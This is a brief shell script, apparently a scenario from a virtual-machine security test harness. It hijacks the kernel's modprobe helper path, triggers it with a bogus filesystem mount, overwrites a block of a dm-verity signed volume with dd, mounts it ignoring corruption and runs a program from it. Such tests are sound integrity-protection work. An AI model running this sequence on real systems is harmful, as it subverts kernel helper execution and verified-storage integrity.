# shellcheck shell=sh
#
# helper-table - let the kernel's helper open the changed volume
#
# SPDX-License-Identifier: MIT

cat >/tmp/helper.sh <<'END'
. /vm/lib.sh
dd if=/attack/padded of=/dev/vdd bs=4096 seek="$(cat /attack/good.block)" conv=notrunc,fsync
verity_mount good /dev/vdd signed /tmp/helped --ignore-corruption
END
echo /attack/helper >/proc/sys/kernel/modprobe
mount -t nosuchfilesystem none /mnt
sleep 1
/tmp/helped/program
umount /tmp/helped
DM_DISABLE_UDEV=1 veritysetup close helped
